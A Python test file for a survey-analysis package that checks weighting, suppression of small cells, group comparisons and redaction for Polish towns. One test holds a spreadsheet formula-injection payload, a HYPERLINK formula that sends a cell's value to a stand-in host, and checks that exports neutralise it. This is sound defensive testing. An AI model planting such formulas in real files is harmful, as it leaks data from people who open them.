"""diagnosis.evidence: a town's numbers, checked against the estimation engine directly."""

import shutil

import numpy as np
import pandas as pd
import pytest

from diagnosis.estimate import Design
from diagnosis.evidence import (
    ReportError,
    analyse_town,
    category_shares,
    check_no_small_cells,
    importance_satisfaction,
    rank_needs,
)
from diagnosis.evidence.indicators import likert_sides
from diagnosis.town import TOWNS_DIR


@pytest.fixture(scope="module")
def kwidzyn():
    return analyse_town("kwidzyn")


def test_weights_are_raked_to_the_town_margins(kwidzyn):
    data, w = kwidzyn.design.data, np.asarray(kwidzyn.design.weights)
    margins = kwidzyn.town.margins
    for column in ("age_band", "sex"):
        got = pd.Series(w).groupby(data[column].to_numpy()).sum()
        want = margins.groupby(column)["population"].sum()
        np.testing.assert_allclose(got.sort_index(), want.sort_index(), rtol=1e-10)
    assert kwidzyn.weighting.n == kwidzyn.n == 308
    assert kwidzyn.weighting.effective_n < kwidzyn.n


def test_indicators_equal_a_direct_design_computation(kwidzyn):
    """Rebuild three indicators from the cleaned data with Design alone."""
    data = kwidzyn.cleaned.data.copy()
    trust = pd.to_numeric(data["trust"], errors="coerce").astype(float)
    data["trust_high"] = (trust >= 6).astype(float).where(trust.notna())
    sat = pd.to_numeric(data["sat_transport"], errors="coerce").astype(float)
    sat = sat.where(sat != 99)
    data["sat_hi"] = (sat >= 4).astype(float).where(sat.notna())
    m = kwidzyn.town.margins
    des = Design(data).rake(
        {
            "age_band": m.groupby("age_band")["population"].sum().to_dict(),
            "sex": m.groupby("sex")["population"].sum().to_dict(),
        }
    )
    table = kwidzyn.indicators.set_index(["indicator", "group", "group_level"])
    direct = des.mean(["trust_high", "sat_hi", "trust"], na_rm="each")
    for name, indicator in (("trust_high", "trust_high"), ("sat_hi", "sat_transport"),
                            ("trust", "trust_mean")):  # fmt: skip
        want = direct.set_index("variable").loc[name, "estimate"]
        got = table.loc[(indicator, "total", "total"), "estimate"]
        assert got == pytest.approx(want, rel=1e-10)
    by_sex = des.mean("trust", by="sex").set_index("sex")
    for sex in ("female", "male"):
        got = table.loc[("trust_mean", "sex", sex), "estimate"]
        assert got == pytest.approx(by_sex.loc[sex, "estimate"], rel=1e-10)


def test_no_published_number_rests_on_a_small_group(kwidzyn):
    t = kwidzyn.indicators
    shown = t[~t["suppressed"]]
    assert (shown["n"] >= 10).all()
    shares = shown[shown["kind"] == "share"]
    assert (shares["n_numerator"] >= 10).all()
    check_no_small_cells(shown, 10)
    hidden = t[t["suppressed"]]
    assert len(hidden) > 0 and hidden["estimate"].isna().all() and hidden["n"].isna().all()
    # secondary suppression: a group of an indicator with exactly one hidden row only where
    # respondents without that group (no district given) hide with it
    counts = t.groupby(["indicator", "group"])["suppressed"].agg(["sum", "size"])
    lonely = counts[(counts["sum"] == 1) & (counts["size"] > 1)]
    data = kwidzyn.design.data
    columns = {d.id: d.column for d in kwidzyn.indicator_defs}
    for indicator, group in lonely.index:
        answered = data[columns[indicator]].notna()
        assert (answered & data[group].isna()).sum() > 0, (indicator, group)


def test_a_higher_threshold_hides_more():
    low = analyse_town("kwidzyn", threshold=5).indicators["suppressed"].sum()
    high = analyse_town("kwidzyn", threshold=30).indicators["suppressed"].sum()
    assert low < high


def test_priorities_and_ranking(kwidzyn):
    pri = kwidzyn.priorities
    assert len(pri) == 10
    line_i, line_s = pri.attrs["importance_line"], pri.attrs["satisfaction_line"]
    act = pri[pri["quadrant"] == "act"]
    assert (act["importance"] >= line_i).all() and (act["satisfaction"] < line_s).all()
    hidden = pri[pri["quadrant"] == "hidden"]
    assert hidden["satisfaction"].isna().all() or hidden["importance"].isna().all()
    needs = kwidzyn.needs
    assert needs["rank"].tolist() == list(range(1, 15))
    assert needs["score"].is_monotonic_decreasing
    assert needs["survey_attention"].sum() == pytest.approx(1.0)
    assert needs["workshop_attention"].sum() == pytest.approx(1.0)


def test_importance_satisfaction_and_rank_needs_on_known_numbers():
    t = pd.DataFrame(
        {
            "indicator": ["imp_a", "imp_b", "imp_c", "sat_a", "sat_b", "sat_c", "needs__a",
                          "needs__b"],
            "group": "total",
            "estimate": [0.9, 0.5, 0.7, 0.2, 0.8, np.nan, 0.3, 0.1],
            "ci_low": [0.85, 0.45, 0.6, 0.15, 0.75, np.nan, 0.2, 0.05],
            "ci_high": [0.95, 0.55, 0.8, 0.25, 0.85, np.nan, 0.4, 0.15],
            "n": 100,
            "label_pl": "x",
            "label_en": "x",
        }
    )  # fmt: skip
    pri = importance_satisfaction(t).set_index("service")
    assert pri.loc["a", "quadrant"] == "act" and pri.loc["b", "quadrant"] == "overkill"
    assert pri.loc["c", "quadrant"] == "hidden"
    assert pri.attrs["importance_line"] == pytest.approx(0.7)
    ideas = pd.DataFrame({"idea": ["i1", "i2", "i3"], "need": ["b", "b", "a"], "votes": [6, 2, 2]})
    ranked = rank_needs(t, ideas).set_index("need")
    # survey attention a = .75, b = .25; workshop a = .2, b = .8
    assert ranked.loc["a", "score"] == pytest.approx((0.75 + 0.2) / 2)
    assert ranked.loc["b", "score"] == pytest.approx((0.25 + 0.8) / 2)
    assert ranked.loc["b", "rank"] == 1 and ranked.loc["b", "top_idea"] == "i1"


def test_likert_sides():
    s = pd.Series([1.0, 2, 3, 4, np.nan, 99])
    assert likert_sides(s, [1, 2, 3, 4]).tolist() == ["neg", "neg", "pos", "pos", pd.NA, pd.NA]


def test_themes_and_quotes_are_redacted(kwidzyn):
    from diagnosis.demo import planted_personal_data

    quotes = " ".join(kwidzyn.quotes["text"])
    for value in planted_personal_data("kwidzyn"):
        assert value not in quotes
    assert kwidzyn.themes["count"].max() >= 10
    assert (kwidzyn.themes["suppressed"] == (kwidzyn.themes["count"] < 10)).all()


@pytest.mark.parametrize(
    ("kwargs", "fragment"),
    [
        ({"threshold": 2}, "nie może być mniejszy niż 3"),
        ({"lang": "de"}, "Język raportu"),
        ({"weighting": "magic"}, "Ważenie musi być"),
        ({"conf_level": 95}, "Poziom ufności"),
    ],
)
def test_bad_settings_are_refused(kwargs, fragment):
    with pytest.raises(ReportError) as info:
        analyse_town("kwidzyn", **kwargs)
    assert fragment in info.value.message("pl")


def test_data_errors_stop_the_analysis_with_a_location(tmp_path):
    import csv

    town = tmp_path / "kwidzyn"
    shutil.copytree(TOWNS_DIR / "kwidzyn", town)
    data = next(town.glob("*.csv"))
    rows = list(csv.reader(data.open(encoding="utf-8", newline="")))
    rows[6][rows[0].index("zaufanie/trust")] = "42"
    with data.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    with pytest.raises(ReportError) as info:
        analyse_town(town)
    err = info.value
    assert (err.row, err.column) == (7, "trust")
    assert "diagnosis validate" in err.message("pl")


def test_group_differences_are_holm_corrected_and_name_only_published_groups(kwidzyn):
    from diagnosis.estimate import adjust_pvalues

    diff = kwidzyn.differences
    assert len(diff) > 100
    tested = diff[diff["p_value"].notna()]
    want = adjust_pvalues(tested["p_value"].to_numpy(), method="holm")["p_adjusted"]
    np.testing.assert_allclose(tested["p_holm"].to_numpy(), want.to_numpy(), rtol=1e-12)
    # each test compares the two published groups printed, nothing hidden (issue #14); in
    # Kwidzyn none of these differences survives Holm's correction (smallest: about 0.06)
    assert tested["test"].isin(["wald", "rao_scott"]).all()
    assert not diff["significant"].any() and tested["p_holm"].min() > 0.05
    found = tested
    table = kwidzyn.indicators
    for _, r in found.iterrows():
        for level in (r["high_level"], r["low_level"]):
            row = table[(table["indicator"] == r["indicator"]) & (table["group"] == r["group"])
                        & (table["group_level"] == level)]  # fmt: skip
            assert len(row) == 1 and not row["suppressed"].iloc[0]
        assert r["high_estimate"] >= r["low_estimate"]


def test_group_differences_name_the_highest_and_lowest_published_groups(kwidzyn):
    shown = kwidzyn.indicators[~kwidzyn.indicators["suppressed"]]
    described = kwidzyn.differences.dropna(subset=["high_level"])
    assert len(described) > 50
    for _, r in described.iterrows():
        part = shown[(shown["indicator"] == r["indicator"]) & (shown["group"] == r["group"])]
        assert len(part) >= 2
        assert r["high_estimate"] == part["estimate"].max()
        assert r["low_estimate"] == part["estimate"].min()
        assert r["difference"] == pytest.approx(r["high_estimate"] - r["low_estimate"])


def test_category_shares_equal_one_estimate_per_question(kwidzyn):
    """Estimated one category at a time over all items; checked item by item."""
    design = kwidzyn.design
    items = [f"lik_{q.name}" for q in kwidzyn.instrument.by_construct("importance")]
    got = category_shares(design, items, threshold=10)
    assert got["variable"].unique().tolist() == items
    columns = ["estimate", "se", "ci_low", "ci_high", "n"]
    for item in items:
        want = design.proportion(item, ci="mean")
        part = got[got["variable"] == item]
        assert part["level"].tolist() == want["level"].tolist()  # sorted, only those given
        np.testing.assert_allclose(part[columns].to_numpy(float), want[columns].to_numpy(float),
                                   rtol=1e-12)  # fmt: skip
        counts = design.data[item].value_counts()
        assert part["n_numerator"].tolist() == [float(counts[c]) for c in part["level"]]
    assert (got.loc[got["n_numerator"] < 10, "suppressed"]).all()


def test_a_singular_comparison_gets_no_test_instead_of_an_error():
    from diagnosis.estimate import compare_domains

    # nobody in groups a and b has the attribute: their difference has no variance
    df = pd.DataFrame(
        {"y": [0.0] * 40 + [1.0, 0.0] * 10, "g": ["a"] * 20 + ["b"] * 20 + ["c"] * 20}
    )
    result = compare_domains(Design(df), ["y"], "g", kind="proportion")
    assert np.isnan(result.tests["value"].iloc[0])


def test_cohesion_reliability(kwidzyn):
    rel = kwidzyn.reliability.set_index("statistic")
    assert rel.loc["alpha", "n_items"] == 5
    assert 0.5 < rel.loc["alpha", "estimate"] < 0.95
    assert rel.loc["alpha", "ci_low"] < rel.loc["alpha", "estimate"] < rel.loc["alpha", "ci_high"]
    assert rel.loc["omega", "estimate"] == pytest.approx(rel.loc["alpha", "estimate"], abs=0.1)


def test_the_evidence_files_publish_nothing_of_a_hidden_cell(kwidzyn, tmp_path):
    import json

    from diagnosis.evidence import write_evidence

    files = write_evidence(kwidzyn, (), tmp_path)
    numbers = ["estimate", "se", "ci_low", "ci_high", "n", "n_numerator", "n_weighted"]
    csv = pd.read_csv(files.csv, encoding="utf-8-sig")
    xlsx = pd.read_excel(files.xlsx, sheet_name="indicators")
    records = pd.DataFrame(json.loads(files.json.read_text(encoding="utf-8"))["indicators"])
    for table in (csv, xlsx, records):
        hidden = table[table["suppressed"].astype(bool)]
        # Kwidzyn has small cells (e.g. sat_transport in a district): they are all blank
        assert len(hidden) > 100
        assert hidden[numbers].isna().all().all()
        shown = table[~table["suppressed"].astype(bool) & table["n_numerator"].notna()]
        assert (shown["n_numerator"] >= 10).all()
        assert not (shown["n"] - shown["n_numerator"]).between(1, 9).any()


def test_quotes_are_chosen_among_confidently_clean_answers_only():
    from diagnosis.evidence import choose_quotes

    longest = "Dzwońcie do mnie wieczorem pod 600 12 34 56, mam pomysł na festyn w parku nad rzeką."
    answers = pd.Series([
        longest,  # the longest, and a phone the redactor might not read: never quoted
        "Proszę o kontakt [telefon], chętnie pomogę przy sprzątaniu parku miejskiego.",
        "Anna K. z biblioteki mogłaby prowadzić kółko szachowe dla dzieci.",
        "Brakuje miejsc spotkań dla młodzieży w centrum miasta.",
        "Więcej koncertów i potańcówek w parku nad jeziorem latem.",
    ])  # fmt: skip
    assert choose_quotes(answers) == [
        "Więcej koncertów i potańcówek w parku nad jeziorem latem.",
        "Brakuje miejsc spotkań dla młodzieży w centrum miasta.",
    ]


def test_no_two_quotes_are_near_duplicates(kwidzyn):
    import re

    texts = kwidzyn.quotes["text"].tolist()
    assert len(texts) >= 6
    runs = [
        {tuple(w[i : i + 5]) for i in range(len(w) - 4)}
        for w in (re.findall(r"\w+", t.lower()) for t in texts)
    ]
    for i in range(len(runs)):
        for j in range(i):
            assert not runs[i] & runs[j], (texts[i], texts[j])


def test_no_cell_of_the_evidence_spreadsheets_starts_a_formula(kwidzyn, tmp_path):
    import dataclasses

    import openpyxl

    from diagnosis.evidence import write_evidence

    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Kwidzyn")'
    town = dataclasses.replace(kwidzyn.town, slug=evil)
    files = write_evidence(dataclasses.replace(kwidzyn, town=town), (), tmp_path)
    csv = pd.read_csv(files.csv, encoding="utf-8-sig")
    assert set(csv["town"]) == {"'" + evil}
    book = openpyxl.load_workbook(files.xlsx)
    texts = [c.value for row in book["indicators"].iter_rows() for c in row
             if isinstance(c.value, str)]  # fmt: skip
    assert "'" + evil in texts
    assert not [t for t in texts if t[:1] in "=+-@\t\r"]
    # numbers stay numbers
    assert pd.api.types.is_float_dtype(csv["estimate"])


def test_no_side_of_a_battery_comes_out_of_the_indicator_that_publishes_another(kwidzyn):
    from types import SimpleNamespace

    from diagnosis.evidence import Settings, battery_shares, category_shares

    # one satisfaction item: 60 dissatisfied, 5 in the middle, 30 satisfied. The middle is
    # small; the plain distribution hides "pos" (30 < 60) as its partner, but the indicator
    # table publishes the share satisfied (30 of 95), so the middle would be 1 - neg - pos.
    item = kwidzyn.instrument.by_construct("satisfaction")[0].name
    data = pd.DataFrame({f"lik_{item}": ["neg"] * 60 + ["mid"] * 5 + ["pos"] * 30})
    indicators = pd.DataFrame({"question": [item], "group": "total", "kind": "share",
                               "suppressed": False})  # fmt: skip
    analysis = SimpleNamespace(design=Design(data), instrument=kwidzyn.instrument,
                               indicators=indicators, settings=Settings())  # fmt: skip
    plain = category_shares(analysis.design, [f"lik_{item}"], 10).set_index("level")
    assert plain["suppressed"].to_dict() == {"mid": True, "neg": False, "pos": True}
    sides = battery_shares(analysis, "satisfaction").set_index("level")
    assert sides["suppressed"].to_dict() == {"mid": True, "neg": True, "pos": False}


def test_a_hidden_key_finding_is_said_as_a_bound_and_never_a_baseline():
    """Zagań: 'satisfied with public transport' rests on fewer than 10 answers (issue #14)."""
    from diagnosis.evidence import analyse_town
    from diagnosis.evidence.sheets import bounded_text, describe_item
    from diagnosis.report import TownReport

    report = TownReport.build("zagan")
    table = report.analysis.indicators
    row = table[(table["indicator"] == "sat_transport") & (table["group"] == "total")].iloc[0]
    assert row["suppressed"] and row["bound"] == "below" and row["bound_k"] == 10
    data = analyse_town("zagan").design.data
    answered = data["ind_sat_transport"].notna()
    assert row["bound_n"] == answered.sum()  # the answers, published; the few are not
    assert (data.loc[answered, "ind_sat_transport"] == 1).sum() < 10
    sheet = next(s for s in report.sheets if s.need == "transport")
    assert not sheet.indicator.suppressed  # the baseline is a published number
    sat = next(i for i in sheet.evidence if i.indicator == "sat_transport")
    n = int(row["bound_n"])
    assert describe_item(sat, "pl").endswith(
        f"mniej niż 10 osób z {n}, które odpowiedziały (poniżej {-(-1000 // n)}% odpowiedzi)"
    )
    assert "ukryty" not in describe_item(sat, "pl")
    assert bounded_text("above", 120, 10, "pl") == (
        "wszyscy poza mniej niż 10 osobami ze 120, które odpowiedziały (ponad 91% odpowiedzi)"
    )
    # groups and partners of hidden cells are never bounded
    assert (table.loc[table["group"] != "total", "bound"] == "").all()


def test_group_sizes_come_from_the_margins_and_groups_are_named_as_people():
    from diagnosis.report import TownReport
    from diagnosis.town import load_town

    town = load_town("surveys/towns/kwidzyn")
    men = int(town.margins.loc[town.margins["sex"] == "male", "population"].sum())
    sheets = TownReport.build("kwidzyn").sheets
    by_men = [s.target_group for s in sheets if "mężczyźni" in s.target_group]
    assert by_men and f"{men:,}".replace(",", " ") in by_men[0] and "dane GUS" in by_men[0]
    assert not any("płeć „" in s.target_group or "wskazują ją" in s.target_group for s in sheets)


def test_a_service_whose_satisfaction_is_hidden_stays_in_the_matrix_at_its_bound(kwidzyn):
    pri = kwidzyn.priorities.set_index("service")
    table = kwidzyn.indicators
    row = table[(table["indicator"] == "sat_youth") & (table["group"] == "total")].iloc[0]
    assert row["suppressed"] and row["bound"] == "below"
    youth = pri.loc["youth"]
    edge = row["bound_k"] / row["bound_n"]
    assert youth["bounded"] and youth["quadrant"] == "act"
    assert (youth["satisfaction"], youth["sat_low"], youth["sat_high"]) == (edge, 0.0, edge)
    assert youth["label_pl"].endswith(f"(zadowolenie poniżej {np.ceil(100 * edge):.0f}%)")
    # the lines are the means over the services with published values only
    shown = pri[~pri["bounded"] & pri["satisfaction"].notna()]
    assert kwidzyn.priorities.attrs["satisfaction_line"] == pytest.approx(
        shown["satisfaction"].mean()
    )
    # every top need the survey ranks is a point of the matrix
    top = kwidzyn.needs.head(3)["need"]
    assert all(pri.loc[n, "quadrant"] != "hidden" for n in top if n in pri.index)
